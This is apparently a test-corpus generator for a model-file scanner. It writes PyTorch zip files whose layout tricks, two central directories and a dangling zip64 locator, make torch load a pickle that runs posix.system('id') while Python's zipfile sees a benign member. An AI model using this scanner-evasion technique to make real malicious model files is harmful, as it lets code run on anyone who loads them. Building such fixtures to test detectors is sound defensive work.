#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright (c) 2026 The mscan authors
"""Writes corpus/malicious/zip_rt_*.pt: torch zips with two central directories, where
PyTorch's reader (miniz: absolute offsets, the zip64 record only where the locator points)
and Python's zipfile (offsets relative to the end record, a bad locator falls back to the
adjacent zip64 record) pick different ones; the one torch reads has a data.pkl that runs a
command (found by a red-team pass). Built from corpus/benign/fmt_torch_zip.pt with zipfile
and struct; standard library only, never unpickled. Run in corpus/malicious/."""
import io
import os
import struct
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
zb = zipfile.ZipFile(os.path.join(HERE, "..", "benign", "fmt_torch_zip.pt"))
names = zb.namelist()
members = {n: zb.read(n) for n in names}


def evil_pkl():
    """posix.system('id') as a protocol 2 pickle, then an empty dict."""
    return b'\x80\x02cposix\nsystem\nX' + struct.pack('<I', 2) + b'id\x85R0}.'


def mkzip(mem):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        for n, d in mem.items():
            z.writestr(zipfile.ZipInfo(n), d, compress_type=zipfile.ZIP_DEFLATED
                       if n.endswith('data.pkl') else zipfile.ZIP_STORED)
    return bio.getvalue()


def split(zbytes):
    """(local records, central directory, end record, member count)."""
    e = zbytes.rfind(b'PK\x05\x06')
    cnt, size, off = struct.unpack('<HII', zbytes[e + 10:e + 20])
    return zbytes[:off], zbytes[off:off + size], zbytes[e:], cnt


def fixcd(cd, delta):
    """Moves every local header offset of a central directory by delta."""
    out = bytearray(cd)
    i = 0
    while i < len(out):
        assert out[i:i + 4] == b'PK\x01\x02'
        nl, xl, cl = struct.unpack('<HHH', out[i + 28:i + 34])
        lho, = struct.unpack('<I', out[i + 42:i + 46])
        out[i + 42:i + 46] = struct.pack('<I', lho + delta)
        i += 46 + nl + xl + cl
    return bytes(out)


P = [n for n in names if n.endswith('/data.pkl')][0]
evil = dict(members)
evil[P] = evil_pkl()
eL, eCD, eEOCD, cnt = split(mkzip(evil))
bL, bCD, bEOCD, _ = split(mkzip(members))

# Two directories: the end record's offset points at the evil one (miniz reads it there);
# the benign one sits right before the end record, where zipfile looks.
eL2 = eL + b'\0' * max(0, len(bL) - len(eL) + 16)
X = len(eL2)
Bstart = X + len(eCD)
base = Bstart + len(bL) - X
bCD2 = fixcd(bCD, Bstart - base)
eocd = bytearray(bEOCD)
eocd[12:16] = struct.pack('<I', len(bCD2))
eocd[16:20] = struct.pack('<I', X)
with open('zip_rt_twocd_system.pt', 'wb') as f:
    f.write(eL2 + eCD + bL + bCD2 + bytes(eocd))

# A zip64 locator pointing nowhere: zipfile falls back to the adjacent zip64 record (the
# benign directory), miniz keeps the 32-bit end record (the evil one).
X = len(eL)
Bstart = X + len(eCD)
bCD2 = fixcd(bCD, Bstart)
cdB = Bstart + len(bL)
z64 = b'PK\x06\x06' + struct.pack('<QHHIIQQQQ', 44, 45, 45, 0, 0, cnt, cnt, len(bCD2), cdB)
loc = b'PK\x06\x07' + struct.pack('<IQI', 0, 8, 1)
eocd = b'PK\x05\x06' + struct.pack('<HHHHIIH', 0, 0, cnt, cnt, len(eCD), X, 0)
with open('zip_rt_z64loc_system.pt', 'wb') as f:
    f.write(eL + eCD + bL + bCD2 + z64 + loc + eocd)
